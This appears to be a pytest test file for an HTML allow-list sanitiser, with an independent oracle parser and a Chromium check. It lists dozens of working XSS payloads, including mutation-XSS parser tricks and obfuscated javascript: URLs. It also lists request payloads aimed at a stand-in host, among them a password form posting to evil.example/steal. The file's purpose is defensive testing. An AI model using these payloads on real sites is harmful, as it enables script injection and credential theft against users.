"""The allow-list sanitiser of hand-written pages (scripts/sanitize.py), in
process: the payloads are families, not a list the code knows (the code
keeps what the allow-list names; it looks for none of these):

* parser differentials: abrupt comments, CDATA outside foreign content,
  RAWTEXT/RCDATA elements holding a ``title`` that ends them early, style
  inside SVG/MathML, duplicated attributes, ``</script x>`` end tags;
* script by attribute or URL: event handlers in any case, ``javascript:``
  written with entities, tabs and newlines, SVG ``<animate>``/``<set>``;
* requests and look-alike UI: external images, ``srcset``, ``poster``,
  ``<link>``, ``@import``, ``<use href>``, ``style=``, forms, classes and ids
  of the site's own interface.

Each payload is removed and reported; the output is a fixed point (cleaning
it again removes nothing) and passes an independent oracle; random mixtures
(hypothesis, seeded) too. In Chromium, the cleaned payloads run no script and
request nothing, while the raw payloads do (so the browser test can fail).
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scripts import sanitize

pytest_plugins = ["tests.browser_support"]

POLICY = sanitize.load_policy().with_hosts(["en.wikipedia.org"])
EVIL = "evil.example"

RUNS_SCRIPT = [
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><svg onload=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '<script type="application/ld+json">{}</script/><script>alert(1)</script x>',
    '<script type="application/ld+json" type="module">alert(1)</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    '<svg><a><animate attributeName=href to="javascript:alert(1)"/><text y=20>x</text></a></svg>',
    '<svg><a><set attributeName="xlink:href" to="javascript:alert(1)"/><text y=20>x</text></a></svg>',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror\t=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<p onpointerenter=alert(1)>x</p>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="  JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<template><img src=x onerror=alert(1)></template>',
    '<div id="__config" class="md-dialog">{"search": "//evil.example/w.js"}</div>',
    '<p data-pagefind-body>x</p>',
]

REQUESTS = [
    f'<img src="https://{EVIL}/a.png">',
    f'<img src="//{EVIL}/a.png">',
    f'<img src="\\\\{EVIL}\\a.png">',
    f'<img src="a.png" srcset="https://{EVIL}/b.png 2x">',
    f'<video poster="https://{EVIL}/p.png"></video>',
    f'<link rel=stylesheet href="https://{EVIL}/s.css">',
    f'<link rel=prefetch href="https://{EVIL}/x">',
    f'<style>@import url(https://{EVIL}/s.css);</style>',
    f'<svg><use href="https://{EVIL}/s.svg#x"></use></svg>',
    f'<p style="position:fixed;inset:0;background:url(https://{EVIL}/x.png)">x</p>',
    f'<form action="https://{EVIL}/steal"><input type=password name=p></form>',
    f'<a href="https://{EVIL}/phish">Log in</a>',
    f'<a href="https://en.wikipedia.org@{EVIL}/">wiki</a>',
    f'<audio src="https://{EVIL}/a.mp3"></audio>',
    f'<picture><source srcset="https://{EVIL}/a.png"><img src=a.png></picture>',
    f'<table background="https://{EVIL}/t.png"><tr><td>x</td></tr></table>',
    f'<blockquote cite="https://{EVIL}/">q</blockquote>',
    f'<a ping="https://{EVIL}/p" href="x.html">x</a>',
]

#: What Python-Markdown and the enabled extensions write for ordinary pages:
#: kept as it is, nothing reported.
BENIGN = [
    '<h2 id="a-b">A <em>b</em><a class="headerlink" href="#a-b" title="Permalink to this section">&para;</a></h2>',
    '<div class="admonition warning">\n<p class="admonition-title">Careful</p>\n<p>Text</p>\n</div>',
    '<details class="note" open="open">\n<summary>More</summary>\n<p>Hidden</p>\n</details>',
    '<table>\n<thead>\n<tr>\n<th style="text-align: left;">A</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n'
    '<td style="text-align: right;">1</td>\n</tr>\n</tbody>\n</table>',
    '<div class="language-yaml highlight"><pre><span></span><code><span class="nt">a</span><span class="p">:'
    '</span><span class="w"> </span><span class="l l-Scalar l-Scalar-Plain">b</span>\n</code></pre></div>',
    '<p>See <a href="../sources/x.html#p3">the text</a>, <a href="https://en.wikipedia.org/wiki/Iraq">Wikipedia'
    '</a> and <abbr title="United Nations">UN</abbr>.</p>',
    '<p><img alt="A map" src="../img/map.png" /></p>',
    '<ol start="3">\n<li><code>x</code> <strong>y</strong> <kbd>Ctrl</kbd></li>\n</ol>',
    '<blockquote>\n<p>Quoted</p>\n</blockquote>\n<hr />\n<p>Line<br />\nbreak</p>',
    '<p><a href="mailto:editors@example.org">write to us</a></p>',
]


class _Oracle(HTMLParser):
    """What a published page must not contain, read independently of nh3."""

    ACTIVE = {"script", "style", "iframe", "frame", "object", "embed", "svg", "math", "form", "input", "button",
              "link", "meta", "base", "template", "noscript", "textarea", "video", "audio", "source", "picture"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in self.ACTIVE:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            value = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name == "style" and re.fullmatch(r"text-align:(left|center|right);", value):
                continue        # the tables extension's column alignment
            if name.startswith("on") or name in ("style", "srcset", "poster", "background", "ping", "srcdoc",
                                                  "formaction", "action") or name.startswith("data-"):
                self.bad.append(name)
            if name == "id" and value.startswith("__"):
                self.bad.append(f"id={value}")
            if name == "class" and any(c.startswith("md-") for c in value.split()):
                self.bad.append(f"class={value}")
            if name in ("href", "src", "cite") and (
                    re.match(r"(javascript|vbscript|data):", value) or EVIL in value):
                self.bad.append(f"{name}={value}")

    handle_startendtag = handle_starttag


def _oracle(html: str) -> list[str]:
    parser = _Oracle()
    parser.feed(html)
    parser.close()
    return parser.bad


@pytest.mark.parametrize("payload", RUNS_SCRIPT + REQUESTS)
def test_each_hostile_payload_is_removed_and_reported(payload):
    assert _oracle(sanitize.as_browsers_read(payload)), "the oracle does not see the payload: the test proves nothing"
    clean, removed = sanitize.sanitize(payload, POLICY)
    assert not _oracle(clean), (payload, clean)
    assert removed, f"{payload!r} was changed into {clean!r} without a report"
    again, removed_again = sanitize.sanitize(clean, POLICY)
    assert again == clean and not removed_again, "the sanitiser's output is not a fixed point"


@pytest.mark.parametrize("markup", BENIGN)
def test_what_markdown_writes_is_kept_without_a_report(markup):
    clean, removed = sanitize.sanitize(markup, POLICY)
    assert not removed, [r.what for r in removed]
    assert not _oracle(clean)
    for kept in re.findall(r'(?:href|src|class|id|title)="[^"]*"', markup):
        assert kept in clean, (kept, clean)


_FRAGMENTS = st.sampled_from([
    "<", ">", "/", "=", '"', "'", "`", "<!--", "-->", "<!", "<![CDATA[", "]]>", "<?", " ", "\t", "\n", "&#",
    "&lt;", "x", "alert(1)", "javascript:", "jav&#x61;script:", "script", "svg", "math", "style", "img", "a",
    "noscript", "title", "textarea", "iframe", "template", "mglyph", "mtext", "table", "animate", "set",
    "onerror", "onload", "href", "src", "srcset", "attributeName", "to", "xlink:href", "id", "__config",
    "class", "md-header", "data-pagefind-body", "https://evil.example/", "//evil.example",
])


@settings(max_examples=300, derandomize=True, deadline=None)
@given(st.lists(_FRAGMENTS, min_size=1, max_size=40).map("".join))
def test_random_markup_never_publishes_active_content(html):
    clean, removed = sanitize.sanitize(html, POLICY)
    assert not _oracle(clean), (html, clean)
    again, removed_again = sanitize.sanitize(clean, POLICY)
    assert again == clean and not removed_again, (html, clean, [r.what for r in removed_again])


def test_a_removal_is_located_at_the_markdown_line_that_wrote_it():
    markdown = "# Title\n\nSome text.\n\nLook <IMG SRC=x OnError=alert(1)>\n\n[x](JavaScript:alert(1))\n"
    html = '<h1>Title</h1><p>Some text.</p><p>Look <img src=x onerror=alert(1)></p>' \
           '<p><a href="javascript:alert(1)">x</a></p>'
    _clean, removed = sanitize.sanitize(html, POLICY)
    lines = {r.what.split("=")[0]: sanitize.locate(r, markdown) for r in removed}
    assert lines == {"onerror": 5, "href": 7}, lines


def test_titles_keep_only_their_text():
    assert sanitize.text_only('Hi <img src=x onerror="alert(1)"> &amp; "you"') == "Hi  &amp; &quot;you&quot;"


def _harness(body: str) -> str:
    return f"<!doctype html><html><head><meta charset=utf-8><title>t</title></head><body>{body}" \
           "<p id=end>end</p></body></html>"


@pytest.mark.browser
def test_cleaned_payloads_run_nothing_and_request_nothing_in_chromium(browser, tmp_path):
    """Every payload, cleaned, in one page: no dialog, no request to another
    host, no element with an event handler; the raw payloads, as a control,
    open dialogs and make requests."""
    def visit(body: str) -> tuple[list[str], list[str]]:
        path = tmp_path / "page.html"
        path.write_text(_harness(body), "utf-8")
        context = browser.new_context(service_workers="block")
        dialogs, requests = [], []
        try:
            page = context.new_page()
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))

            def route(r):
                if r.request.url.startswith("file:"):
                    return r.continue_()
                requests.append(r.request.url)
                return r.abort()
            page.route("**/*", route)
            page.goto(path.as_uri(), wait_until="load")
            # Hover and click everything: handlers that need a gesture run too.
            for element in page.query_selector_all("body *")[:200]:
                try:
                    element.dispatch_event("pointerenter")
                    element.dispatch_event("mouseover")
                except Exception:   # noqa: BLE001 - detached elements
                    pass
            for link in page.query_selector_all("a[href]"):
                href = link.get_attribute("href") or ""
                if href.lower().lstrip().startswith(("javascript", "data")):
                    page.evaluate("(a) => a.click()", link)
            page.wait_for_timeout(300)
            assert page.query_selector("#end") is not None
        finally:
            context.close()
        return dialogs, [u for u in requests if EVIL in u]

    clean = "\n".join(sanitize.sanitize(p, POLICY)[0] for p in RUNS_SCRIPT + REQUESTS)
    dialogs, requests = visit(clean)
    assert not dialogs, dialogs
    assert not requests, requests
    raw_dialogs, raw_requests = visit("\n".join(RUNS_SCRIPT + REQUESTS))
    assert raw_dialogs and raw_requests, "the raw payloads did nothing in Chromium: the test proves nothing"
